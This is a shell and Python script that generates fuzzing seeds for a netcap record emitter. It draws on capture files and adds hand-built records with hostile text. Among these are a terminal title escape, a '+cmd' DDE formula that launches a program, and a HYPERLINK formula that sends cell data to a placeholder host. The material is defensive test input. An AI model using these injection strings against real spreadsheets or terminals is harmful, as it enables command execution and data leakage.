#!/usr/bin/env bash
# seed_emit.sh OUTDIR: seeds for fuzz_emit (input format in
# tests/fuzz/fuzz_emit.c: the record type's Types__Type value, a flags
# byte, then one record): up to SEED_RECORDS (default 12) records of each
# record file netcap writes from a few corpus captures, every record type
# with every field set ($NETCAP_BUILD/tests/ncap-gen, when built), and
# records made here whose text holds terminal escapes, line breaks, C1
# controls, backslashes and spreadsheet formulas, plus a few costly ones.
# Environment: NETCAP_BUILD (netcap, tests/ncap-gen), NETCAP_CORPUS. What
# is missing is skipped with a note; the records made here always come.
set -euo pipefail
out=$1
mkdir -p "$out"
root=${NETCAP_ROOT:-$(cd "$(dirname "$0")/../.." && pwd)}
build=${NETCAP_BUILD:-$root/build}
corpus=${NETCAP_CORPUS:-$(cd "$root/.." && pwd)/shared/corpus}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
mkdir -p "$work/files"

CAPTURES="ndpi/dns-invalid-chars.pcap tcpdump/LLDP_and_CDP.pcap ndpi/http_ipv6.pcap ndpi/sip.pcap
  tcpdump/dhcp-rfc3004.pcap ndpi/malformed_dns.pcap tcpdump/dhcpv6-ia-na.pcap ndpi/443-chrome.pcap
  tcpdump/icmpv6.pcap tcpdump/IGMP_V2.pcap"
args=()
for rel in $CAPTURES; do
  if [ -f "$corpus/$rel" ]; then args+=(-r "$corpus/$rel"); else echo "note: $corpus/$rel absent"; fi
done
if [ ${#args[@]} -gt 0 ] && [ -x "$build/netcap" ]; then
  if "$build/netcap" "${args[@]}" -o "$work/netcap" -w 1 -q --no-progress >"$work/netcap.log" 2>&1; then
    cp "$work"/netcap/*.ncap.gz "$work/files/" 2>/dev/null || true
  else
    echo "note: netcap failed, no seeds from captures"; tail -n 5 "$work/netcap.log"
  fi
else
  echo "note: no captures or no $build/netcap: no seeds from captures"
fi
if [ -x "$build/tests/ncap-gen" ]; then
  mkdir -p "$work/gen"
  "$build/tests/ncap-gen" "$work/gen" --count 2 >/dev/null
  for f in "$work"/gen/*.ncap.gz; do cp "$f" "$work/files/gen-$(basename "$f")"; done
else
  echo "note: $build/tests/ncap-gen not built: no every-field seeds"
fi

python3 - "$work/files" "$out" "${SEED_RECORDS:-12}" <<'EOF'
import gzip, os, sys
src, out, per_file = sys.argv[1], sys.argv[2], int(sys.argv[3])
count = 0

def seed(name, type_id, flags, record):
    global count
    with open(os.path.join(out, name), "wb") as f:
        f.write(bytes([type_id, flags]) + record)
    count += 1

def varint(n):
    o = bytearray()
    while n >= 0x80:
        o.append(n & 0x7F | 0x80)
        n >>= 7
    o.append(n)
    return bytes(o)

def read_varint(d, i):
    v = shift = 0
    while True:
        b = d[i]
        i += 1
        v |= (b & 0x7F) << shift
        shift += 7
        if b < 0x80:
            return v, i

def records(stream):
    i = 0
    while i < len(stream):
        n, i = read_varint(stream, i)
        yield stream[i:i + n]
        i += n

def header_type(h):
    i = 0
    while i < len(h):
        k, i = read_varint(h, i)
        field, wire = k >> 3, k & 7
        if wire == 0:
            v, i = read_varint(h, i)
            if field == 3:
                return v
        elif wire == 2:
            n, i = read_varint(h, i)
            i += n
        else:
            return None
    return 0

for fn in sorted(os.listdir(src)):
    recs = records(gzip.decompress(open(os.path.join(src, fn), "rb").read()))
    t = header_type(next(recs))
    if t is None or t > 255:
        continue
    seen = set()
    for k, r in enumerate(recs):
        if len(seen) >= per_file:
            break
        if r in seen or len(r) > 16 << 10:
            continue
        seen.add(r)
        seed(f"{fn.split('.')[0]}.{k}", t, len(seen) % 16, r)

# Made here. LinkLayerDiscoveryInfo (NC 24): PortDescription 2, SysName 3,
# SysDescription 4; UDP (NC 37): SrcIP 9; SIP (NC 53): Headers 4 (repeated).
def ld(field, payload):
    return varint(field << 3 | 2) + varint(len(payload)) + payload

texts = [b"\x1b[2J\x1b]0;owned\x07", b"=HYPERLINK(\"http://x/?\"&A1,\"y\")", b"  -2+3", b"@SUM(1)",
         b"tab\there\nnl\rcr", b"\\x1b \\\\ \x7f \xc2\x9b \xc2\xa0 \xe2\x80\xae", b"+cmd|' /C calc'!A0",
         b"a,b;c|d(e)[f]\"g\"", b"\xff\xfe bad utf-8 \xe2\x82"]
for k, t in enumerate(texts):
    seed(f"lldp-text.{k}", 24, k % 16, ld(2, t) + ld(3, texts[(k + 1) % len(texts)]) + ld(4, t))
    seed(f"udp-text.{k}", 37, (k * 5) % 16, varint(2 << 3) + varint(53) + ld(9, t))
    seed(f"sip-text.{k}", 53, (k * 3) % 16, ld(4, t) + ld(4, b"=1") + ld(4, t))
# Costly: empty DNS answers (NC 41, Answers 16), unknown fields, a UDP
# record (NC 37) with a singular field given twice, a packed
# TLSClientHello (NC 64) CipherSuites (15).
seed("dns-answers", 41, 0, b"\x82\x01\x00" * 3000)
seed("udp-unknown", 37, 8, b"\x90\x03\x01" * 500 + ld(51, b"blob"))
seed("udp-twice", 37, 1, ld(9, b"a") + ld(9, b"b"))
seed("tls-packed", 64, 8, ld(15, bytes(range(1, 120))))
print(f"-- {count} seed records")
EOF
